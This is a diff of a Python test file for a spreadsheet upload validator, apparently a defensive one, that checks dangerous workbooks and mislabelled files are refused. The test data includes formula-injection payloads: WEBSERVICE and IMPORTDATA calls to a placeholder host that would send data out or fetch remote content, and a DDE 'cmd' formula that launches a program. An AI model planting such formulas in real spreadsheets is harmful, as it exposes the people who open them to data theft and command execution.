@@ -66,8 +66,7 @@ def test_a_workbook_that_reaches_out_or_brings_a_program_is_refused(workbook, pa
 
 
 @pytest.mark.parametrize(
-    "formula",
-    ['WEBSERVICE("http://contoh.invalid/" &amp; A1)', "cmd|' /C calc'!A0", 'IMPORTDATA("http://contoh.invalid")'],
+    "formula", ['WEBSERVICE("http://contoh.invalid/" &amp; A1)', "cmd|' /C calc'!A0", 'IMPORTDATA("http://contoh.invalid")']
 )
 def test_a_formula_that_fetches_from_outside_is_refused(workbook, formula) -> None:
     cell = f'<c r="A2"><f>{formula}</f><v>1</v></c>'.encode()
@@ -102,7 +101,7 @@ def test_thousands_of_parts_are_refused(workbook) -> None:
 
 
 @pytest.mark.parametrize(
-    "data", [b"\xd0\xcf\x11\xe0" + b"\x00" * 600, b"%PDF-1.7\n", b"<html><table><tr><td>1</td></tr></table>", b"PK\x03\x04rusak"]
+    "data", [b"\xd0\xcf\x11\xe0" + b"\x00" * 600, b"%PDF-1.7\n", b"<html><table></table></html>", b"PK\x03\x04rusak"]
 )
 def test_another_kind_of_file_is_refused_by_its_content_whatever_its_name(data) -> None:
     assert refusal(data, "data.xlsx")[0] == "TLK-R002"
